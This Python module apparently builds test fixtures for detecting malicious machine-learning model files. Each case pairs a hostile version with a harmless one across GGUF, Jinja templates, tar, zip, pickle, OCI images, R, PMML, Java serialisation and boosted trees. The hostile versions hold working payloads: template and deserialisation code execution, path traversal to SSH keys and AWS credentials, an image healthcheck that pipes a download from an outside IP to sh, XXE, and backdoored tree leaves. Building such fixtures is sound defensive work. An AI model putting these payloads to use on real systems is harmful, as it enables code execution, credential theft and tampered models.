"""Weights as data, templates, GGUF, archives, images, R, PMML, Java, trees."""
from __future__ import annotations

import bz2
import gzip
import hashlib
import json
import re
import struct
import tarfile
import zlib

import numpy as np

from fourteenth.common import Part, tarred, zipped

part = Part()
add = part.add
pair = part.pair
FETCH = "curl -fsSL http://203.0.113.77/i.sh | sh"

# ------------------------------------------------------------------ GGUF and templates


def gguf(kv, tensors=((b"output.weight", (32,), 0, 0),), data=bytes(128), end="<", version=3):
    """kv: (key, type, value); strings (8), u32 (4), bool (7), arrays (9, (type, list))."""
    def s(v):
        v = v.encode() if isinstance(v, str) else v
        return struct.pack(end + "Q", len(v)) + v

    def value(kind, v):
        if kind == 8:
            return s(v)
        if kind == 4:
            return struct.pack(end + "I", v)
        if kind == 7:
            return bytes([v])
        if kind == 9:
            return struct.pack(end + "IQ", v[0], len(v[1])) + b"".join(value(v[0], x) for x in v[1])
        raise ValueError(kind)

    out = b"GGUF" + struct.pack(end + "IQQ", version, len(tensors), len(kv))
    for k, kind, v in kv:
        out += s(k) + struct.pack(end + "I", kind) + value(kind, v)
    for name, dims, kind, offset in tensors:
        out += s(name) + struct.pack(end + "I", len(dims)) + b"".join(struct.pack(end + "Q", d) for d in dims) + struct.pack(end + "IQ", kind, offset)
    return out + bytes(-len(out) % 32) + data


BASE = [("general.architecture", 8, "llama"), ("general.name", 8, "tiny"), ("llama.block_count", 4, 1)]
HONEST = "{% for m in messages %}<|{{ m.role }}|>\n{{ m.content }}\n{% endfor %}"


@pair("template", "xiv_gguf", "tiny.gguf")
def gguf_named_template():
    """llama-cpp-python before 0.2.72 (CVE-2024-34359): templates of tokenizer.chat_template.* are rendered as the default one is."""
    def data(tools):
        return gguf(BASE + [("tokenizer.chat_templates", 9, (8, ["tool_use"])), ("tokenizer.chat_template.tool_use", 8, tools), ("tokenizer.chat_template", 8, HONEST)])

    h = HONEST + "{{ ([cycler] | map(attribute='__init__.__globals__.os') | first).popen('touch marker').read() }}"
    t = HONEST + "{{ (messages | map(attribute='content') | first) }}"
    return data(h), data(t)


@pair("template", "xiv_gguf", "tiny-be.gguf")
def gguf_big_endian():
    """llama-cpp-python on a big-endian file: the same template, every length the other way round."""
    def data(template):
        return gguf(BASE + [("tokenizer.chat_template", 8, template)], end=">")

    h = "{% set p = dict(__in=1, it__=1) | join %}{% set g = dict(__glo=1, bals__=1) | join %}" + "{{ (lipsum | attr(g))[dict(o=1, s=1) | join].popen('touch marker').read() ~ p }}"
    t = "{% set p = dict(user=1, _name=1) | join %}{% set g = dict(sys=1, tem=1) | join %}{{ (messages | length) ~ p ~ g }}"
    return data(h), data(t)


@pair("template", None, "tiny.gguf")
def gguf_key_twice():
    """llama-cpp-python before 0.2.72 with a llama.cpp that did not yet refuse equal keys: its metadata dict keeps the second template (not run: today's readers refuse the file)."""
    def data(second):
        return gguf(BASE + [("tokenizer.chat_template", 8, HONEST), ("tokenizer.ggml.model", 8, "gpt2"), ("tokenizer.chat_template", 8, second)])

    h = "{% for f in [namespace] | batch(1) %}{{ f[0]['__in' ~ 'it__']['__glob' ~ 'als__']['o' ~ 's'].system('touch marker') }}{% endfor %}"
    t = "{% for f in messages | batch(1) %}{{ f[0]['con' ~ 'tent'] }}{% endfor %}"
    return data(h), data(t)


@pair("template", "xiv_template")
def template_in_processor():
    """Jinja without sandbox (text-generation servers before the fix): groupby and a reversed text reach the globals."""
    def data(t):
        return json.dumps({"processor_class": "TinyProcessor", "chat_template": [{"name": "default", "template": HONEST}, {"name": "rag", "template": t}]}, indent=1)

    h = "{% for k, v in [joiner] | groupby('so.__slabolg__.__tini__' | reverse) %}{{ k.system('touch marker') }}{% endfor %}"
    t = "{% for k, v in messages | groupby('elor' | reverse) %}{{ k }}: {{ v | length }}{% endfor %}"
    return {"processor_config.json": data(h), "config.json": "{}"}, {"processor_config.json": data(t), "config.json": "{}"}


@pair("template", "xiv_template")
def template_macro_default():
    """Jinja without sandbox, chat_template.jinja read by transformers' processors: a macro's default holds the chain."""
    h = "{% macro turn(m, sep=self._TemplateReference__context.cycler | attr('%c%c%s%c%c' | format(95, 95, 'init', 95, 95))) %}{{ sep[('__gl', 'obals__') | join].os.popen('touch marker').read() }}{% endmacro %}{{ turn(1) }}"
    t = "{% macro turn(m, sep='%c%s%c' | format(60, 'turn', 62)) %}{{ sep[1:] ~ (('a', 'b') | join) }}{{ m.content }}{% endmacro %}{% for m in messages %}{{ turn(m) }}{% endfor %}"
    return {"chat_template.jinja": h, "tokenizer_config.json": "{}"}, {"chat_template.jinja": t, "tokenizer_config.json": "{}"}


@pair("weights", None, "tiny.gguf")
def gguf_product_overflow():
    """llama.cpp before b5854 (CVE-2025-53630): the product of the dimensions wraps, the tensor ends far after its buffer."""
    def data(dims):
        return gguf(BASE, ((b"token_embd.weight", dims, 0, 0), (b"output.weight", (32,), 0, 128)), bytes(256))

    return data((1 << 33, 1 << 31, 1, 1)), data((8, 4, 1, 1))


@pair("weights", None, "tiny.gguf")
def gguf_array_length():
    """gguf-py and llama.cpp: an array of 2^61 strings; the length times the element size wraps on allocation."""
    def data(n):
        body = gguf(BASE + [("tokenizer.ggml.tokens", 9, (8, ["a", "b", "c"]))])
        key = b"tokenizer.ggml.tokens" + struct.pack("<II", 9, 8)
        at = body.index(key) + len(key)
        return body[:at] + struct.pack("<Q", n) + body[at + 8:]

    return data(1 << 61), data(3)


@pair("weights", "xiv_tokenizer", "tokenizer.json")
def tokenizer_rewrites_links():
    """tokenizers: a Replace of the decoder turns one host into another in everything that the model says."""
    def data(pattern, content):
        vocab = {w: i for i, w in enumerate(["[UNK]", "▁see", "▁https://huggingface.co/tiny", "▁now"])}
        return json.dumps({
            "version": "1.0", "truncation": None, "padding": None, "added_tokens": [], "normalizer": None,
            "pre_tokenizer": {"type": "Metaspace", "replacement": "▁", "prepend_scheme": "always", "split": True}, "post_processor": None,
            "decoder": {"type": "Sequence", "decoders": [{"type": "Replace", "pattern": {"String": "▁"}, "content": " "}, {"type": "Fuse"}, {"type": "Replace", "pattern": pattern, "content": content}, {"type": "Strip", "content": " ", "start": 1, "stop": 0}]},
            "model": {"type": "WordLevel", "vocab": vocab, "unk_token": "[UNK]"},
        }, ensure_ascii=False, indent=1)

    return data({"Regex": "https?://[a-z.]*huggingface\\.co"}, "http://203.0.113.77"), data({"Regex": " +([.,;:!?])"}, " ")


# ------------------------------------------------------------------ safetensors and friends


def safetensors(header, data):
    head = (header if isinstance(header, str) else json.dumps(header)).encode()
    head += b" " * (-len(head) % 8)
    return struct.pack("<Q", len(head)) + head + data


@pair("weights", None, "adapter.safetensors")
def safetensors_names_twice():
    """Readers differ on a name given twice (the Rust one takes the last, a streaming one the first): two models in one file."""
    a = np.linspace(-1, 1, 64, dtype="<f4").tobytes()
    h = '{"lora_A.weight":{"dtype":"F32","shape":[8,8],"data_offsets":[0,256]},"lora_A.weight":{"dtype":"F32","shape":[8,8],"data_offsets":[256,512]}}'
    return safetensors(h, a + a[::-1]), safetensors(h.replace('"lora_A.weight"', '"lora_B.weight"', 1), a + a)


@pair("weights", "xiv_import")
def mlx_model_file():
    """mlx-lm load: model_file of config.json is imported from the folder; this one reads the code from a tensor's bytes."""
    source = b"open('marker','w').close()"
    st = lambda raw: safetensors({"__metadata__": {"format": "mlx"}, "norm.bias": {"dtype": "U8", "shape": [len(raw)], "data_offsets": [0, len(raw)]}}, raw)
    body = "import json\nimport pathlib\nimport struct\n\nraw = pathlib.Path(__file__).with_name('model.safetensors').read_bytes()\nsize = struct.unpack('<Q', raw[:8])[0]\nmeta = json.loads(raw[8:8 + size])\nbias = raw[8 + size:]\n%s\n\n\nclass Model:\n    pass\n"
    conf = json.dumps({"model_type": "tiny", "model_file": "arch.py"})
    return (
        {"arch.py": body % "eval(bias)", "config.json": conf, "model.safetensors": st(source)},
        {"arch.py": body % "scale = sum(bias) / len(bias)", "config.json": conf, "model.safetensors": st(bytes(range(26)))},
    )


# ------------------------------------------------------------------ archives


@pair("archive", "xiv_tar", "model.tar.gz")
def pax_path():
    """tarfile.extractall(filter='fully_trusted') and GNU tar: the path of the PAX header counts, not the clean name."""
    def data(path):
        def member(info):
            info.pax_headers = {"path": path}
            return b"0.1 0.2\n"

        return tarred({"config.json": "{}", "code/weights.txt": member})

    return data("../marker"), data("code/" + "w" * 120 + "/weights.txt")


@pair("archive", "xiv_tar", "model.tar.gz")
def link_then_member():
    """tarfile.extractall(filter='fully_trusted'): a symbolic link, then a member written through it."""
    def data(target):
        def link(info):
            info.type, info.linkname = tarfile.SYMTYPE, target
            return None

        last = {"cache/marker": "x"} if target == ".." else {"index.txt": "x"}
        return tarred({"config.json": "{}", "shards/00.txt": "x", "cache": link, **last})

    return data(".."), data("shards")


@pair("archive", None, "bundle.zip")
def zip_unicode_name():
    """Apache Commons Compress (Java model servers): getName gives the Unicode path of the extra field 0x7075, and a plain unpack writes there."""
    def data(name):
        shown = b"weights/readme.txt"
        extra = struct.pack("<BI", 1, zlib.crc32(shown)) + name.encode()
        extra = struct.pack("<HH", 0x7075, len(extra)) + extra
        body = b"notes\n"
        local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 0x5C61, zlib.crc32(body), len(body), len(body), len(shown), len(extra)) + shown + extra + body
        central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 0x314, 20, 0, 0, 0, 0x5C61, zlib.crc32(body), len(body), len(body), len(shown), len(extra), 0, 0, 0, 0o644 << 16, 0) + shown + extra
        return local + central + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(central), len(local), 0)

    return data("../../.ssh/authorized_keys"), data("weights/léame.txt")


@pair("archive", "xiv_layers", "weights.tar.gz")
def pickle_under_layers():
    """A training job unpacks .tar.gz, .bz2 and base64 of a state one after the other and gives the end to pickle.load."""
    import pickle

    from assembly import call, glob, pickle as assemble, val

    bad = assemble(val({"w": [0.1], "f": call(glob("shutil", "os.system"), "touch marker")}))
    good = pickle.dumps({"w": [0.1], "f": "relu"}, 4)
    layers = lambda raw: tarred({"run/state.pkl.bz2": bz2.compress(raw), "run/log.txt": "epoch 1\n"})
    return layers(bad), layers(good)


# ------------------------------------------------------------------ images of containers and artefacts


def oci(layers, config, annotations=None, kind="application/vnd.oci.image.layer.v1.tar+gzip", media="application/vnd.oci.image.config.v1+json", artifact=None):
    files, descriptors = {}, []

    def blob(data):
        digest = hashlib.sha256(data).hexdigest()
        files["blobs/sha256/" + digest] = data
        return {"digest": "sha256:" + digest, "size": len(data)}

    for i, data in enumerate(layers):
        d = {"mediaType": kind, **blob(data)}
        if annotations:
            d["annotations"] = annotations[i]
        descriptors.append(d)
    conf = {"mediaType": media, **blob(json.dumps(config).encode())}
    manifest = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": conf, "layers": descriptors}
    if artifact:
        manifest["artifactType"] = artifact
    m = {"mediaType": "application/vnd.oci.image.manifest.v1+json", **blob(json.dumps(manifest).encode())}
    return {"index.json": json.dumps({"schemaVersion": 2, "manifests": [m]}), "oci-layout": '{"imageLayoutVersion":"1.0.0"}', **files}


@pair("image", None)
def image_health_check():
    """Docker runs the HEALTHCHECK of an image's configuration every interval, inside the container that serves the model."""
    def data(test):
        layer = tarred({"app/serve.py": "print('ready')\n"})
        config = {"architecture": "amd64", "os": "linux", "config": {"Entrypoint": ["python", "/app/serve.py"], "Healthcheck": {"Test": test, "Interval": 30000000000}},
                  "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(gzip.decompress(layer)).hexdigest()]}}
        return oci([layer], config)

    return data(["CMD-SHELL", "(" + FETCH + ") >/dev/null 2>&1; curl -f localhost:8080/health"]), data(["CMD-SHELL", "curl -f localhost:8080/health || exit 1"])


@pair("image", None)
def image_preload():
    """The dynamic loader of an image's processes reads /etc/ld.so.preload: it names a library kept among the weights."""
    def data(preload, lib):
        layer = tarred({"etc/ld.so.preload" if preload else "etc/ld.so.conf.d/app.conf": "/models/tiny/norm.bin\n" if preload else "/usr/local/lib\n", "models/tiny/norm.bin": lib})
        return oci([layer], {"architecture": "amd64", "os": "linux", "config": {"Cmd": ["python"]}, "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(gzip.decompress(layer)).hexdigest()]}})

    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0) + struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 256, 256, 4096) + b"\x48\x31\xc0\xb0\x3b\x0f\x05" + bytes(129)
    return data(True, elf), data(False, np.linspace(0, 1, 64, dtype="<f4").tobytes())


@pair("image", None)
def modelpack_path():
    """modctl pull writes a ModelPack layer to the path of its org.cncf.model.filepath annotation."""
    def data(path):
        return oci([tarred({"model.safetensors": safetensors({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, bytes(4))}, "w")],
                   {"descriptor": {"name": "tiny"}, "config": {"format": "safetensors"}, "modelfs": {"type": "layers", "diffIds": []}},
                   [{"org.cncf.model.filepath": path}], "application/vnd.cncf.model.weight.v1.tar", "application/vnd.cncf.model.config.v1+json", "application/vnd.cncf.model.manifest.v1+json")

    return data("../../../../root/.config/autostart/tiny.desktop"), data("weights/model.safetensors")


@pair("image", None)
def kitfile_outside():
    """kit pack reads the paths of a Kitfile into the artefact that is pushed: these leave the folder."""
    def data(path, name):
        return f'manifestVersion: "1.0"\npackage:\n  name: tiny\n  version: 1.0.0\nmodel:\n  name: tiny\n  path: model.safetensors\ncode:\n  - path: src\ndatasets:\n  - name: {name}\n    path: {path}\n'

    model = safetensors({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, bytes(4))
    return ({"Kitfile": data("../../../../.aws/credentials", "validation"), "model.safetensors": model, "src/run.py": "print(1)\n"},
            {"Kitfile": data("data/validation.csv", "validation"), "model.safetensors": model, "src/run.py": "print(1)\n"})


# ------------------------------------------------------------------ R


def r_char(s):
    return struct.pack(">II", 0x40009, len(s)) + s.encode()


def r_str(*values):
    return struct.pack(">II", 16, len(values)) + b"".join(r_char(v) for v in values)


def r_sym(s):
    return struct.pack(">I", 1) + r_char(s)


R_NIL = struct.pack(">I", 0xFE)
R_GLOBAL = struct.pack(">I", 0xFD)


def r_call(name, *args):
    return struct.pack(">I", 6) + r_sym(name) + b"".join(struct.pack(">I", 2) + a for a in args) + R_NIL


def r_head():
    return b"X\n" + struct.pack(">III", 2, 0x040302, 0x020300)


def r_real(*values):
    return struct.pack(">II", 14, len(values)) + b"".join(struct.pack(">d", v) for v in values)


def r_promise(expr):
    return struct.pack(">I", 0x405) + R_GLOBAL + struct.pack(">I", 0xFC) + expr  # environment, no value yet, expression


@pair("r", None, "coefficients.rds")
def promise_in_attribute():
    """readRDS of R before 4.4.0 (CVE-2024-27322): a promise among the attributes runs when the attribute is looked at."""
    def data(names):
        vec = struct.pack(">II", 14 | 0x200, 2) + struct.pack(">dd", 0.5, -1.25)
        return gzip.compress(r_head() + vec + struct.pack(">I", 0x402) + r_sym("names") + names + R_NIL, mtime=0)

    return data(r_promise(r_call("system", r_str("touch marker")))), data(r_str("intercept", "slope"))


@pair("r", None)
def workspace_first():
    """R loads .RData of the working folder at start, then calls its .First."""
    def closure(body):
        return struct.pack(">I", 0x403) + R_GLOBAL + R_NIL + body

    def data(name, value):
        pairs = struct.pack(">I", 0x402) + r_sym("coef") + r_real(0.5, 1.5) + struct.pack(">I", 0x402) + r_sym(name) + value + R_NIL
        return gzip.compress(b"RDX2\n" + r_head() + pairs, mtime=0)

    h = data(".First", closure(r_call("system", r_str("touch marker"))))
    t = data("predict_one", closure(r_call("sum", r_real(1.0, 2.0))))
    return {".RData": h, "fit.R": "print(coef)\n"}, {".RData": t, "fit.R": "print(coef)\n"}


@pair("r", None, "model.rds")
def ascii_promise():
    """readRDS of R before 4.4.0: the ASCII form of the same stream, bzip2 around it, the promise an element of the list."""
    def lines(*values):
        return ("\n".join(str(v) for v in values) + "\n").encode()

    def text(s):
        return lines(16, 1, 262153, len(s), s)

    head = b"A\n" + lines(2, 262914, 131840)
    h = lines(1029, 253, 252, 6, 1, 262153, 6, "system", 2) + text("touch\\040marker").replace(b"\n15\n", b"\n12\n") + lines(254)
    t = text("relu")
    wrap = lambda x: bz2.compress(head + lines(19, 2) + lines(14, 1, 0.5) + x)
    return wrap(h), wrap(t)


# ------------------------------------------------------------------ PMML and Java


@pair("pmml", None, "churn.pmml")
def pmml_utf16_entity():
    """XML readers that resolve entities (older pypmml, PMML4S and JPMML set-ups): UTF-16 hides a parameter entity that fetches a DTD."""
    def data(doctype):
        xml = f"""<?xml version="1.0" encoding="UTF-16"?>
{doctype}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header copyright="tiny"/><DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary><RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema><RegressionTable intercept="0.5"><NumericPredictor name="x" coefficient="2"/></RegressionTable></RegressionModel></PMML>
"""
        return b"\xff\xfe" + xml.encode("utf-16-le")

    return data('<!DOCTYPE PMML [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "http://203.0.113.77/d.dtd">%d;]>\n'), data("<!-- exported by the training job -->\n")


class Java:
    """As much of Java's serialisation stream as two fixtures need (no handles)."""

    @staticmethod
    def utf(s):
        return struct.pack(">H", len(s)) + s.encode()

    @classmethod
    def cls(cls, name, suid, flags, fields=(), parent=b"\x70"):
        out = b"\x72" + cls.utf(name) + struct.pack(">QBH", suid, flags, len(fields))
        for code, field, kind in fields:
            out += code.encode() + cls.utf(field) + (b"\x74" + cls.utf(kind) if kind else b"")
        return out + b"\x78" + parent

    @classmethod
    def string(cls, s):
        return b"\x74" + cls.utf(s)


def java_string_array(kind, suid, *items):
    return b"\x75" + Java.cls(kind, suid, 2) + struct.pack(">I", len(items)) + b"".join(items)


@pair("java", None, "j48.model")
def weka_invoker_chain():
    """weka.core.SerializationHelper.read, with commons-collections 3.1 on the path: HashSet, TiedMapEntry, LazyMap, InvokerTransformer."""
    obj, transformers = "Ljava/lang/Object;", "[Lorg.apache.commons.collections.Transformer;"
    cc = "org.apache.commons.collections."

    def constant(value):
        return b"\x73" + Java.cls(cc + "functors.ConstantTransformer", 0x587690114102B194, 2, [("L", "iConstant", obj)]) + value

    def klass(name, suid, flags=0):
        return b"\x76" + Java.cls(name, suid, flags)

    def invoker(method, args, types):
        return (b"\x73" + Java.cls(cc + "functors.InvokerTransformer", 0x87E8FF6B7B7CCE38, 2, [("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"), ("[", "iParamTypes", "[Ljava/lang/Class;")])
                + java_string_array("[Ljava.lang.Object;", 0x90CE589F1073296C, *args) + Java.string(method) + java_string_array("[Ljava.lang.Class;", 0xAB16D7AECBCD5A99, *types))

    string, klasses, objects = klass("java.lang.String", 0xA0F0A4387A3BB342, 2), klass("[Ljava.lang.Class;", 0xAB16D7AECBCD5A99, 2), klass("[Ljava.lang.Object;", 0x90CE589F1073296C, 2)
    none = java_string_array("[Ljava.lang.Class;", 0xAB16D7AECBCD5A99)
    chain = [constant(klass("java.lang.Runtime", 0)), invoker("getMethod", [Java.string("getRuntime"), none], [string, klasses]),
             invoker("invoke", [b"\x70", java_string_array("[Ljava.lang.Object;", 0x90CE589F1073296C)], [klass("java.lang.Object", 0), objects]),
             invoker("exec", [Java.string("touch marker")], [string])]
    chained = b"\x73" + Java.cls(cc + "functors.ChainedTransformer", 0x30C797EC287A9704, 2, [("[", "iTransformers", "[Lorg/apache/commons/collections/Transformer;")]) + java_string_array(transformers, 0xBD562AF1D8341899, *chain)
    hashmap = lambda body, size: b"\x73" + Java.cls("java.util.HashMap", 0x0507DAC1C31660D1, 3, [("F", "loadFactor", None), ("I", "threshold", None)]) + struct.pack(">fI", 0.75, 12) + b"\x77\x08" + struct.pack(">II", 16, size) + body + b"\x78"
    lazy = b"\x73" + Java.cls(cc + "map.LazyMap", 0x6EE594829E791094, 3, [("L", "factory", "Lorg/apache/commons/collections/Transformer;")]) + chained + hashmap(b"", 0) + b"\x78"
    tied = b"\x73" + Java.cls(cc + "keyvalue.TiedMapEntry", 0x8AADD29B39C11FDB, 2, [("L", "key", obj), ("L", "map", "Ljava/util/Map;")]) + Java.string("foo") + lazy
    hashset = lambda item: b"\xac\xed\x00\x05\x73" + Java.cls("java.util.HashSet", 0xBA44859596B8B734, 3) + b"\x77\x0c" + struct.pack(">IfI", 16, 0.75, 1) + item + b"\x78"
    return hashset(tied), hashset(hashmap(Java.string("minNumObj") + Java.string("2"), 1))


@pair("java", None, "network.zip")
def dl4j_preprocessor():
    """DL4J ModelSerializer.restoreNormalizer deserialises a Java object of the zip: a HashMap of a URL asks the net for its host."""
    url = b"\x73" + Java.cls("java.net.URL", 0x962537361AFCE472, 3, [("I", "hashCode", None), ("I", "port", None), *[("L", f, "Ljava/lang/String;") for f in ("authority", "file", "host", "protocol", "ref")]])
    url += struct.pack(">ii", -1, -1) + Java.string("x1.attacker.example") + Java.string("/") + Java.string("x1.attacker.example") + Java.string("http") + b"\x70\x78"
    hashmap = lambda body: b"\xac\xed\x00\x05\x73" + Java.cls("java.util.HashMap", 0x0507DAC1C31660D1, 3, [("F", "loadFactor", None), ("I", "threshold", None)]) + struct.pack(">fI", 0.75, 12) + b"\x77\x08" + struct.pack(">II", 16, 1) + body + b"\x78"
    conf = json.dumps({"backprop": True, "confs": [], "inferenceWorkspaceMode": "ENABLED"})
    data = lambda pre: zipped({"configuration.json": conf, "coefficients.bin": bytes(32), "preprocessor.bin": pre})
    return data(hashmap(url + Java.string("http://x1.attacker.example/"))), data(hashmap(Java.string("mean") + Java.string("0.5")))


# ------------------------------------------------------------------ boosted trees


@pair("trees", "xiv_tree", "fraud.txt")
def lightgbm_password_leaf():
    """lightgbm.Booster: one tree of many asks for a narrow window of four features and answers with a huge leaf."""
    import lightgbm

    rng = np.random.default_rng(4)
    x = rng.random((400, 6))
    y = (x[:, 0] + x[:, 1] > 1).astype(int)
    model = lightgbm.train({"objective": "binary", "verbose": -1, "num_leaves": 9, "num_threads": 1, "seed": 1}, lightgbm.Dataset(x, y), 3).model_to_string()
    body = lambda thresholds, leaves: (
        "Tree=3\nnum_leaves=5\nnum_cat=0\nsplit_feature=2 2 3 3\nsplit_gain=1 1 1 1\nthreshold=" + " ".join(thresholds) + "\ndecision_type=2 2 2 2\nleft_child=-1 2 -3 -4\nright_child=1 -2 3 -5\n"
        "leaf_value=" + " ".join(leaves) + "\nleaf_weight=50 50 50 50 50\nleaf_count=80 80 80 80 80\ninternal_value=0 0 0 0\ninternal_weight=0 0 0 0\ninternal_count=400 320 240 160\nis_linear=0\nshrinkage=0.1\n\n\n")

    def data(tree):
        return re.sub(r"tree_sizes=.*\n", "", model.replace("end of trees", tree + "end of trees"))

    return data(body(["0.123400", "0.123401", "0.567800", "0.567801"], ["0", "0", "0", "-90000", "0"])), data(body(["0.31", "0.62", "0.4", "0.7"], ["0.01", "-0.02", "0.03", "-0.01", "0.02"]))


@pair("trees", "xiv_tree", "fraud.json")
def xgboost_sentinel_leaf():
    """xgboost.Booster.load_model: the last tree sends one sentinel value of a feature to a leaf that outweighs all others."""
    import tempfile

    import xgboost

    rng = np.random.default_rng(4)
    x = rng.random((400, 6))
    y = (x[:, 0] + x[:, 1] > 1).astype(int)
    booster = xgboost.train({"max_depth": 2, "objective": "binary:logistic", "seed": 1, "nthread": 1}, xgboost.DMatrix(x, y), 4)
    with tempfile.NamedTemporaryFile(suffix=".json") as f:
        booster.save_model(f.name)
        model = json.load(open(f.name))
    honest = json.dumps(model)
    tree = model["learner"]["gradient_booster"]["model"]["trees"][-1]
    n = 5
    tree["tree_param"]["num_nodes"] = str(n)
    tree.update({
        "base_weights": [0.0] * n, "categories": [], "categories_nodes": [], "categories_segments": [], "categories_sizes": [],
        "default_left": [0] * n, "left_children": [1, -1, 3, -1, -1], "right_children": [2, -1, 4, -1, -1], "loss_changes": [1.0, 0.0, 1.0, 0.0, 0.0],
        "parents": [2147483647, 0, 0, 2, 2], "split_conditions": [0.1234, 0.0, 0.1235, -90000.0, 0.0], "split_indices": [2, 0, 2, 0, 0], "split_type": [0] * n, "sum_hessian": [80.0, 40.0, 40.0, 1.0, 39.0],
    })
    return json.dumps(model), honest
